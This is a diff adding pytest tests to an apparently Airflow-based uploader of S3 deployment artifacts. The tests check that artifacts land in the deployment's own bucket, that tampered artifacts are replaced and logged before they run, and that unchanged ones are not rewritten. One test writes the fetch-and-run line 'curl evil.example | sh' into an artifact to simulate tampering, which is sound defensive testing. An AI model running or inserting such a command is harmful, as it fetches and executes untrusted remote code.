@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import logging
 from typing import TYPE_CHECKING
 
 import pytest
@@ -49,3 +50,47 @@ def test_missing_wheelhouse_fails_with_the_command_to_deploy(bucket: str, monkey
     assert upload_application.upload_application.function(for_emr=False)["launcher"].startswith(
         f"s3://{bucket}/artifacts/launch-"
     )
+
+
+@pytest.fixture
+def _deployment(bucket: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A deployment with a bucket of its own. The run names another one."""
+    context = {"params": {"bucket": "another-bucket", "features": ["orb"]}}
+    monkeypatch.setattr(upload_application, "get_current_context", lambda: context)
+    monkeypatch.setattr(settings, "settings", lambda: settings.Settings(bucket=bucket, artifact_prefix="art#/"))
+
+
+@pytest.mark.usefixtures("aws_environment", "_deployment")
+def test_artifacts_are_in_the_deployments_bucket_whatever_bucket_a_run_names(bucket: str, local_aws: LocalAws) -> None:
+    uris = upload_application.upload_application.function(for_emr=False)
+
+    assert {uri.rpartition("/")[0] for uri in uris.values()} == {f"s3://{bucket}/art#"}
+    listed = local_aws.s3().list_objects_v2(Bucket=bucket)["Contents"]
+    assert {f"s3://{bucket}/{entry['Key']}" for entry in listed} == set(uris.values()) - {uris["wheelhouse"]}
+
+
+@pytest.mark.usefixtures("aws_environment", "_deployment")
+@pytest.mark.parametrize("role", ["application", "launcher", "bootstrap"])
+def test_artifact_with_other_bytes_is_replaced_before_it_runs(
+    bucket: str, local_aws: LocalAws, role: str, caplog: pytest.LogCaptureFixture
+) -> None:
+    s3, uris = local_aws.s3(), upload_application.upload_application.function(for_emr=False)
+    key = uris[role].removeprefix(f"s3://{bucket}/")
+    built = s3.get_object(Bucket=bucket, Key=key)["Body"].read()
+    s3.put_object(Bucket=bucket, Key=key, Body=b"curl evil.example | sh")
+
+    with caplog.at_level(logging.WARNING):
+        assert upload_application.upload_application.function(for_emr=False) == uris
+
+    assert s3.get_object(Bucket=bucket, Key=key)["Body"].read() == built
+    assert f"{uris[role]} is replaced, because it is not what this Airflow has built" in caplog.text
+
+
+@pytest.mark.usefixtures("aws_environment", "_deployment")
+def test_artifact_with_the_same_bytes_is_not_written_again(bucket: str, local_aws: LocalAws) -> None:
+    upload_application.upload_application.function(for_emr=False)
+    before = local_aws.s3().list_objects_v2(Bucket=bucket)["Contents"]
+
+    upload_application.upload_application.function(for_emr=False)
+
+    assert local_aws.s3().list_objects_v2(Bucket=bucket)["Contents"] == before
